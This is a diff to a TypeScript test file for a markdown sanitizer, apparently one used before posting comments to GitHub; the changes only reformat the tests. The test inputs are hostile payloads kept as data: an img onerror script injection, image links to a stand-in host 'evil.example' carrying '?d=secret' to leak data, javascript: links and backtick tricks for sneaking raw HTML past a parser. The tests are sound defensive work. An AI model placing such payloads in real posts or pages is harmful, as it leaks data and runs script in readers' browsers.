@@ -9,7 +9,7 @@ describe("safeMarkdown", () => {
   });
 
   it("escapes HTML, mentions and images in prose", () => {
-    expect(safeMarkdown('Hi @octocat <img src=x onerror=alert(1)> ![t](https://evil.example/p.png?d=secret) <!-- data-engineer:finding=abc -->')).toBe(
+    expect(safeMarkdown("Hi @octocat <img src=x onerror=alert(1)> ![t](https://evil.example/p.png?d=secret) <!-- data-engineer:finding=abc -->")).toBe(
       "Hi @&#8203;octocat &lt;img src=x onerror=alert(1)&gt; t &lt;!-- data-engineer:finding=abc --&gt;",
     );
   });
@@ -34,7 +34,22 @@ function nodeTypes(markdown: string): Set<string> {
   return types;
 }
 
-const ALLOWED = new Set(["link", "document", "paragraph", "heading", "text", "softbreak", "linebreak", "emph", "strong", "code", "code_block", "list", "item", "link:https://example.com/docs"]);
+const ALLOWED = new Set([
+  "link",
+  "document",
+  "paragraph",
+  "heading",
+  "text",
+  "softbreak",
+  "linebreak",
+  "emph",
+  "strong",
+  "code",
+  "code_block",
+  "list",
+  "item",
+  "link:https://example.com/docs",
+]);
 const MARKER = `<!-- data-engineer:finding=${"a".repeat(64)} -->`;
 
 describe("safeMarkdown against the parser's reading (issue 18)", () => {
@@ -42,7 +57,10 @@ describe("safeMarkdown against the parser's reading (issue 18)", () => {
     ["a backslash-escaped backtick before raw HTML", `\\\`<img src="https://evil.example/p.png?d=secret">\` hi @octocat ${MARKER}`],
     ["a run of backticks no run closes", `\`\`<img src=https://evil.example/p.png?d=secret>\` and \`\`${MARKER}\` @octocat`],
     ["an HTML block", `<div>\n<img src=https://evil.example/p.png>\n</div>\n\n${MARKER}`],
-    ["images, autolinks and other schemes", "![x](https://evil.example/p.png) <https://evil.example/a> [a](javascript:alert(1)) [b](http://evil.example) [c][r]\n\n[r]: https://evil.example/r"],
+    [
+      "images, autolinks and other schemes",
+      "![x](https://evil.example/p.png) <https://evil.example/a> [a](javascript:alert(1)) [b](http://evil.example) [c][r]\n\n[r]: https://evil.example/r",
+    ],
     ["a table, a quote and a rule", "| a | b |\n| - | - |\n| <b>x</b> | y |\n\n> quoted @octocat\n\n---"],
   ])("posts %s as text: no HTML, image, comment, mention or non-https link survives", (_case, input) => {
     const posted = safeMarkdown(input);
